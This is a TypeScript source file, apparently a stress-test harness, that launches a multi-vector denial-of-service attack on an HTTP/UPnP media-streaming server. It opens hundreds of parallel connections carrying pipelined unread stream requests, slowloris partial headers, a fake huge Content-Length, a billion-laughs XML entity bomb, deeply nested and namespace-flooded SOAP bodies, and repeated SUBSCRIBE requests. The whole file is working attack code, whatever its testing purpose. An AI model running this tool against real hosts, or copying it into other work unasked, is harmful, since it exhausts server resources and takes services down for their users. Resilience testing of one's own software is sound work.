/** What strangers do over HTTP: pipelines, streams that nobody reads, XML that explodes, subscriptions without end. */
import { connect, type Socket } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import type { AttackPlan } from './attack-plan.ts'

const CONTROL = '/upnp/control/content-directory'
const SOAP_ACTION = '"urn:schemas-upnp-org:service:ContentDirectory:1#Browse"'

/** Runs everything at once until the time is over. Returns how many connections were made. */
export async function attackHttp(plan: AttackPlan): Promise<number> {
  const endsAt = performance.now() + plan.durationMs
  const stream = `GET /torrents/${plan.infoHash}/stream/0 HTTP/1.1\r\nHost: ${plan.host}\r\n\r\n`
  const lanes: { readonly bytes: string; readonly count: number; readonly reads: boolean }[] = [
    { bytes: stream.repeat(400), count: 4, reads: false },
    { bytes: stream, count: 100, reads: false },
    { bytes: soap(manyNamespaces()), count: 4, reads: true },
    { bytes: soap(deepElements()), count: 4, reads: true },
    { bytes: soap(entities()), count: 2, reads: true },
    { bytes: subscription(plan), count: 20, reads: true },
    { bytes: `GET / HTTP/1.1\r\nHost: ${plan.host}\r\nX-Slow: `, count: 200, reads: true },
    {
      bytes: `POST ${CONTROL} HTTP/1.1\r\nHost: ${plan.host}\r\nContent-Length: 99999999\r\n\r\n`,
      count: 20,
      reads: true,
    },
    { bytes: 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', count: 4, reads: true },
  ]
  let made = 0
  const keepOne = async (bytes: string, reads: boolean, source: string): Promise<void> => {
    while (performance.now() < endsAt) {
      made++
      await send(plan, { bytes, reads, source, endsAt })
      await sleep(250)
    }
  }
  const all = lanes.flatMap(({ bytes, count, reads }) =>
    Array.from({ length: count }, (_, lane) =>
      keepOne(bytes, reads, plan.sources[lane % plan.sources.length] ?? ''),
    ),
  )
  await Promise.all(all)
  return made
}

function send(
  plan: AttackPlan,
  how: { bytes: string; reads: boolean; source: string; endsAt: number },
): Promise<void> {
  return new Promise((resolve) => {
    const socket: Socket = connect({
      host: plan.host,
      port: plan.httpPort,
      localAddress: how.source,
    })
    const timer = setTimeout(() => socket.destroy(), Math.max(0, how.endsAt - performance.now()))
    socket.on('connect', () => socket.write(how.bytes))
    if (how.reads) socket.resume()
    socket.on('error', () => {})
    socket.on('close', () => {
      clearTimeout(timer)
      resolve()
    })
  })
}

function soap(body: string): string {
  return [
    `POST ${CONTROL} HTTP/1.1`,
    'Host: 10.78.1.1:3030',
    'Content-Type: text/xml; charset="utf-8"',
    `SOAPACTION: ${SOAP_ACTION}`,
    `Content-Length: ${Buffer.byteLength(body)}`,
    '',
    body,
  ].join('\r\n')
}

function manyNamespaces(): string {
  const names = Array.from({ length: 5_000 }, (_, i) => `xmlns:n${i}="u:${i}"`).join(' ')
  return `<?xml version="1.0"?><s:Envelope ${names}>${'<a/>'.repeat(30_000)}</s:Envelope>`
}

function deepElements(): string {
  return `<?xml version="1.0"?>${'<a xmlns="x">'.repeat(7_000)}`
}

function entities(): string {
  const levels = Array.from(
    { length: 9 },
    (_, i) => `<!ENTITY e${i + 1} "${`&e${i};`.repeat(10)}">`,
  )
  return `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e0 "ha">${levels.join('')}]><x>&e9;</x>`
}

function subscription(plan: AttackPlan): string {
  return [
    'SUBSCRIBE /upnp/event/content-directory HTTP/1.1',
    `Host: ${plan.host}:${plan.httpPort}`,
    `CALLBACK: <http://${plan.sources[0]}:9/>`,
    'NT: upnp:event',
    'TIMEOUT: Second-1800',
    '',
    '',
  ].join('\r\n')
}
